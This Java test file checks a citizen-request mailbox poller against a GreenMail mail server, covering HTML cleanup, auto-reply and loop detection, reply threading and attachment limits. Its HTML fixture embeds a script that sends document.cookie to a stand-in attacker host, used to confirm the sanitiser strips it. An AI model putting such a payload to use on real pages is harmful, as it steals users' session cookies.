package org.gridcase.mailbox;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.icegreen.greenmail.configuration.GreenMailConfiguration;
import com.icegreen.greenmail.junit5.GreenMailExtension;
import com.icegreen.greenmail.store.StoredMessage;
import com.icegreen.greenmail.util.ServerSetupTest;
import jakarta.activation.DataHandler;
import jakarta.mail.Flags;
import jakarta.mail.Message.RecipientType;
import jakarta.mail.MessagingException;
import jakarta.mail.Part;
import jakarta.mail.internet.InternetAddress;
import jakarta.mail.internet.MimeBodyPart;
import jakarta.mail.internet.MimeMessage;
import jakarta.mail.internet.MimeMultipart;
import jakarta.mail.util.ByteArrayDataSource;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import org.camunda.bpm.engine.HistoryService;
import org.camunda.bpm.engine.ManagementService;
import org.camunda.bpm.engine.RuntimeService;
import org.camunda.bpm.engine.TaskService;
import org.camunda.bpm.engine.impl.util.ClockUtil;
import org.camunda.bpm.engine.runtime.Job;
import org.camunda.bpm.engine.runtime.ProcessInstance;
import org.gridcase.GridcaseTest;
import org.gridcase.intake.CitizenRequestProcess;
import org.gridcase.intake.RequestView;
import org.gridcase.intake.Requests;
import org.gridcase.intake.StatusCodes;
import org.gridcase.mailbox.InboundMails.Outcome;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;

/**
 * 书记信箱 against a real IMAP and SMTP server (GreenMail): mail is put into the mailbox, the poll runs by
 * executing its jobs or calling the poller, and the acknowledgement leaves when its job is executed.
 */
@GridcaseTest
class MailboxTest {

  static final String MAILBOX = "shuji@gridcase.test";

  @RegisterExtension
  static final GreenMailExtension mail = new GreenMailExtension(ServerSetupTest.SMTP_IMAP)
      .withConfiguration(GreenMailConfiguration.aConfig().withUser(MAILBOX, "shuji", "shuji-test"));

  static final AtomicInteger MESSAGES = new AtomicInteger();
  static final String HTML = "<html><head><style>.x{color:red}</style></head><body>"
      + "<p>小区东门的路灯坏了三天。</p><p>晚上很黑，老人容易摔倒。<img src=\"cid:lamp@example.org\"></p>"
      + "<script>document.location='https://evil.example/'+document.cookie</script>"
      + "<div class=\"gmail_quote\"><div>On Mon, 23 Nov 2026 at 09:00, 网格中心 wrote:</div>"
      + "<blockquote>上一封邮件里的旧内容</blockquote></div></body></html>";

  @Autowired MailboxPoller poller;
  @Autowired Requests requests;
  @LocalServerPort int port;
  @Autowired StatusCodes statusCodes;
  @Autowired RuntimeService runtimeService;
  @Autowired HistoryService historyService;
  @Autowired TaskService taskService;
  @Autowired ManagementService managementService;
  @Autowired JdbcClient jdbc;

  @AfterEach
  void cleanUp() {
    ClockUtil.reset();
    // A failed poll keeps its job for a retry; the next test starts without it.
    runtimeService.createProcessInstanceQuery().processDefinitionKey(MailboxPollProcess.KEY).list()
        .forEach(instance -> runtimeService.deleteProcessInstance(instance.getId(), "test"));
  }

  @Test
  void anHtmlMailBecomesOneCaseWithCleanTextAndIsAcknowledgedOnce() throws Exception {
    String messageId = newMessageId();
    MimeMessage html = message(messageId, "wang@example.org", "王先生", "东门路灯不亮");
    MimeMultipart alternative = new MimeMultipart("alternative");
    alternative.addBodyPart(text("小区东门的路灯坏了三天。\n\n> 上一封邮件里的旧内容"));
    MimeBodyPart htmlPart = new MimeBodyPart();
    htmlPart.setContent(HTML, "text/html; charset=UTF-8");
    alternative.addBodyPart(htmlPart);
    MimeBodyPart alternatives = new MimeBodyPart();
    alternatives.setContent(alternative);
    MimeMultipart related = new MimeMultipart("related");
    related.addBodyPart(alternatives);
    MimeBodyPart image = file("lamp.png", "image/png", new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n', 0, 0});
    image.setContentID("<lamp@example.org>");
    image.setDisposition(Part.INLINE);
    related.addBodyPart(image);
    html.setContent(related);
    deliver(html);

    pollThroughTheJobs();

    RequestView request = requestOf(messageId);
    assertThat(request.channel()).isEqualTo("email");
    assertThat(request.requesterEmail()).isEqualTo("wang@example.org");
    assertThat(request.requesterName()).isEqualTo("王先生");
    assertThat(request.gridCode()).as("no location in a mail: placed at triage").isNull();
    assertThat(request.description()).isEqualTo("东门路灯不亮\n\n小区东门的路灯坏了三天。\n\n晚上很黑，老人容易摔倒。");
    assertThat(inboundMail(messageId)).containsEntry("OUTCOME", "CREATED").containsEntry("ATTACHMENTS", 1);
    ProcessInstance instance = runtimeService.createProcessInstanceQuery()
        .processDefinitionKey(CitizenRequestProcess.KEY).processInstanceBusinessKey(request.trackingNumber())
        .singleResult();
    assertThat(taskService.createTaskQuery().processInstanceId(instance.getId())
        .taskDefinitionKey(CitizenRequestProcess.Elements.TASK_TRIAGE).count()).isOne();
    assertThat(inbox()).allMatch(message -> message.isSet(Flags.Flag.SEEN));
    assertThat(citizenMail()).as("the acknowledgement waits for its job").isEmpty();

    managementService.executeJob(acknowledgementJob(request.trackingNumber()).getId());
    assertThat(poller.poll()).as("seen, nothing new").isEmpty();

    List<MimeMessage> acknowledgements = citizenMail();
    assertThat(acknowledgements).hasSize(1);
    MimeMessage acknowledgement = acknowledgements.get(0);
    assertThat(acknowledgement.getAllRecipients()[0].toString()).isEqualTo("wang@example.org");
    assertThat(acknowledgement.getSubject()).contains("[" + request.trackingNumber() + "]");
    assertThat(acknowledgement.getHeader("Auto-Submitted")).containsExactly("auto-replied");
    assertThat(acknowledgement.getHeader("In-Reply-To")).containsExactly(messageId);
    assertThat(acknowledgement.getMessageID()).isEqualTo(inboundMail(messageId).get("ACK_MESSAGE_ID"));
    assertThat(acknowledgement.getContent().toString()).contains("王先生您好")
        .contains("受理编号：" + request.trackingNumber())
        .contains("http://localhost:" + port + "/status/" + statusCodes.of(request.trackingNumber()));
    assertThat(inboundMail(messageId).get("ACKNOWLEDGED_AT")).isNotNull();

    // As a restart from Cockpit would do: the acknowledgement is not sent twice.
    ProcessInstance again = runtimeService.startProcessInstanceByKey(AcknowledgementProcess.KEY,
        request.trackingNumber(), AcknowledgementProcess.Variables.INBOUND_MAIL_ID.asMap(
            ((Number) inboundMail(messageId).get("ID")).longValue()));
    managementService.executeJob(managementService.createJobQuery().processInstanceId(again.getId())
        .singleResult().getId());
    assertThat(citizenMail()).hasSize(1);
  }

  @Test
  void automaticMailAndARepeatedMessageIdCreateNothingAndABadMailBlocksNoOther() throws Exception {
    String sender = "loop-" + MESSAGES.incrementAndGet() + "@example.org";
    String empty = newMessageId();
    String autoReply = newMessageId();
    String bulk = newMessageId();
    String looped = newMessageId();
    String twice = newMessageId();
    deliver(plain(empty, sender, "", " "));
    deliver(withHeader(plain(autoReply, sender, "自动回复：休假中", "我正在休假。"), "Auto-Submitted", "auto-replied"));
    deliver(withHeader(plain(bulk, sender, "社区周报", "本周活动。"), "Precedence", "bulk"));
    deliver(withHeader(plain(looped, sender, "Re: 回执", "回执"), "X-Loop", "gridcase"));
    deliver(plain(twice, sender, "垃圾没人清", "三号楼的垃圾两天没清了。"));
    deliver(plain(twice, sender, "垃圾没人清", "三号楼的垃圾两天没清了。"));

    Map<Outcome, Integer> outcomes = poller.poll();

    assertThat(outcomes).containsExactlyInAnyOrderEntriesOf(Map.of(Outcome.REFUSED, 1, Outcome.LOOP, 3,
        Outcome.CREATED, 1, Outcome.DUPLICATE, 1));
    assertThat(jdbc.sql("select count(*) from gc_request where requester_email = ?").param(sender)
        .query(Long.class).single()).isOne();
    assertThat(inboundMail(autoReply)).containsEntry("OUTCOME", "LOOP")
        .containsEntry("REASON", "Auto-Submitted: auto-replied").containsEntry("REQUEST_ID", null);
    assertThat(inboundMail(bulk)).containsEntry("REASON", "Precedence: bulk");
    assertThat(inboundMail(looped)).containsEntry("REASON", "X-Loop");
    assertThat(inboundMail(empty)).containsEntry("OUTCOME", "REFUSED");
    assertThat((String) inboundMail(empty).get("REASON")).contains("description").doesNotContain(sender);
    assertThat(inbox()).hasSize(6).allMatch(message -> message.isSet(Flags.Flag.SEEN));
    String trackingNumber = requestOf(twice).trackingNumber();
    assertThat(runtimeService.createProcessInstanceQuery().processDefinitionKey(AcknowledgementProcess.KEY)
        .processInstanceBusinessKey(trackingNumber).count()).as("one acknowledgement, none for the others").isOne();
    assertThat(jdbc.sql("select count(*) from act_ru_execution e join act_re_procdef d on e.proc_def_id_ = d.id_"
            + " where d.key_ = ? and e.parent_id_ is null").param(AcknowledgementProcess.KEY).query(Long.class)
        .single()).isEqualTo(jdbc.sql("select count(*) from gc_inbound_mail where outcome = 'CREATED'"
            + " and acknowledged_at is null").query(Long.class).single());
  }

  @Test
  void answersToTheAcknowledgementBecomeNotesOfTheCase() throws Exception {
    String citizen = "li-" + MESSAGES.incrementAndGet() + "@example.org";
    String first = newMessageId();
    deliver(plain(first, citizen, "井盖松动", "幸福路12号门口的井盖松了。"));
    poller.poll();
    RequestView request = requestOf(first);
    managementService.executeJob(acknowledgementJob(request.trackingNumber()).getId());
    String acknowledgementId = citizenMail().get(0).getMessageID();

    String byHeader = newMessageId();
    MimeMessage answer = message(byHeader, citizen, null, "回复：补充情况");
    MimeMultipart parts = new MimeMultipart();
    parts.addBodyPart(text("旁边的路灯也不亮。\n\n在 2026年11月23日 10:00，网格化服务管理中心 写道：\n> 您的来信已收到"));
    parts.addBodyPart(file("photo.jpg", "image/jpeg", new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0, 0, 0}));
    parts.addBodyPart(file("video.mp4", "video/mp4", new byte[150_000]));
    answer.setContent(parts);
    answer.setHeader("In-Reply-To", acknowledgementId);
    answer.setHeader("References", first + " " + acknowledgementId);
    deliver(answer);
    String bySubject = newMessageId();
    deliver(plain(bySubject, citizen, "Re: 【网格诉求】您的来信已登记 [" + request.trackingNumber() + "]", "第二次补充。"));
    String stranger = newMessageId();
    deliver(plain(stranger, "zhao-" + MESSAGES.incrementAndGet() + "@example.org",
        "关于 [" + request.trackingNumber() + "]", "我也看到了。"));

    assertThat(poller.poll()).containsExactlyInAnyOrderEntriesOf(Map.of(Outcome.REPLY, 2, Outcome.CREATED, 1));

    assertThat(notes(request.id(), InboundMailHandler.NOTE_REPLY)).containsExactly("旁边的路灯也不亮。", "第二次补充。");
    assertThat(notes(request.id(), InboundMailHandler.NOTE_ATTACHMENT_REFUSED))
        .containsExactly("邮件附件“video.mp4”未保存：超过 97 KB 的大小限制");
    assertThat(inboundMail(byHeader)).containsEntry("OUTCOME", "REPLY").containsEntry("ATTACHMENTS", 1)
        .containsEntry("ACK_MESSAGE_ID", null);
    assertThat(((Number) inboundMail(bySubject).get("REQUEST_ID")).longValue()).isEqualTo(request.id());
    assertThat(requestOf(stranger).id()).as("a tracking number alone does not reach someone else's case")
        .isNotEqualTo(request.id());
    assertThat(historyService.createHistoricProcessInstanceQuery().processDefinitionKey(AcknowledgementProcess.KEY)
        .processInstanceBusinessKey(request.trackingNumber()).count()).as("answers are not acknowledged").isOne();
  }

  @Test
  void anUnreachableMailboxFailsThePollJobWithoutItsLogin() {
    mail.stop();
    Job poll;
    try {
      poll = startPoll();
      assertThatThrownBy(() -> managementService.executeJob(poll.getId()))
          .hasMessageContaining("mailbox folder INBOX not polled").hasMessageNotContaining("shuji-test");
    } finally {
      mail.start();
    }
    Job retried = managementService.createJobQuery().jobId(poll.getId()).singleResult();
    assertThat(retried.getRetries()).as("R3/PT1M").isEqualTo(2);
    assertThat(retried.getExceptionMessage()).contains("not polled");
  }

  private void pollThroughTheJobs() {
    managementService.executeJob(startPoll().getId());
    assertThat(runtimeService.createProcessInstanceQuery().processDefinitionKey(MailboxPollProcess.KEY).count())
        .as("the poll ended").isZero();
  }

  /** Fires the timer: a poll instance starts and waits at its job. */
  private Job startPoll() {
    Job timer = managementService.createJobQuery().processDefinitionKey(MailboxPollProcess.KEY)
        .activityId(MailboxPollProcess.Elements.START_EVENT).active().singleResult();
    managementService.executeJob(timer.getId());
    return managementService.createJobQuery().processDefinitionKey(MailboxPollProcess.KEY)
        .activityId(MailboxPollProcess.Elements.TASK_POLL_MAILBOX).singleResult();
  }

  private Job acknowledgementJob(String trackingNumber) {
    ProcessInstance instance = runtimeService.createProcessInstanceQuery()
        .processDefinitionKey(AcknowledgementProcess.KEY).processInstanceBusinessKey(trackingNumber).singleResult();
    return managementService.createJobQuery().processInstanceId(instance.getId())
        .activityId(AcknowledgementProcess.Elements.TASK_SEND_ACKNOWLEDGEMENT).singleResult();
  }

  private RequestView requestOf(String messageId) {
    return requests.get(((Number) inboundMail(messageId).get("REQUEST_ID")).longValue());
  }

  private Map<String, Object> inboundMail(String messageId) {
    Map<String, Object> row = new java.util.HashMap<>();
    jdbc.sql("select * from gc_inbound_mail where message_id = ?").param(messageId).query().singleRow()
        .forEach((column, value) -> row.put(column.toUpperCase(java.util.Locale.ROOT), value));
    return row;
  }

  private List<String> notes(long requestId, String kind) {
    return jdbc.sql("select note from gc_request_event where request_id = ? and kind = ? order by id")
        .params(requestId, kind).query(String.class).list();
  }

  private static List<MimeMessage> citizenMail() {
    return Arrays.asList(mail.getReceivedMessagesForDomain("example.org"));
  }

  private static List<StoredMessage> inbox() throws Exception {
    return mail.getManagers().getImapHostManager().getInbox(mail.getUserManager().getUserByEmail(MAILBOX))
        .getMessages();
  }

  private static void deliver(MimeMessage message) throws Exception {
    message.saveChanges();
    mail.getUserManager().getUserByEmail(MAILBOX).deliver(message);
  }

  private static String newMessageId() {
    return "<test-" + MESSAGES.incrementAndGet() + "." + System.nanoTime() + "@example.org>";
  }

  private static MimeMessage plain(String messageId, String from, String subject, String body) throws Exception {
    MimeMessage message = message(messageId, from, null, subject);
    message.setText(body, "UTF-8");
    return message;
  }

  private static MimeMessage withHeader(MimeMessage message, String name, String value) throws MessagingException {
    message.setHeader(name, value);
    return message;
  }

  private static MimeMessage message(String messageId, String from, String name, String subject) throws Exception {
    MimeMessage message = new MimeMessage(mail.getSmtp().createSession()) {
      @Override
      protected void updateMessageID() throws MessagingException {
        // Keep the test's Message-ID: the poll recognises messages by it.
        setHeader("Message-ID", messageId);
      }
    };
    message.setFrom(new InternetAddress(from, name, "UTF-8"));
    message.setRecipients(RecipientType.TO, MAILBOX);
    message.setSubject(subject, "UTF-8");
    return message;
  }

  private static MimeBodyPart text(String text) throws MessagingException {
    MimeBodyPart part = new MimeBodyPart();
    part.setText(text, "UTF-8");
    return part;
  }

  private static MimeBodyPart file(String filename, String type, byte[] content) throws MessagingException {
    MimeBodyPart part = new MimeBodyPart();
    part.setDataHandler(new DataHandler(new ByteArrayDataSource(content, type)));
    part.setFileName(filename);
    part.setDisposition(Part.ATTACHMENT);
    return part;
  }
}
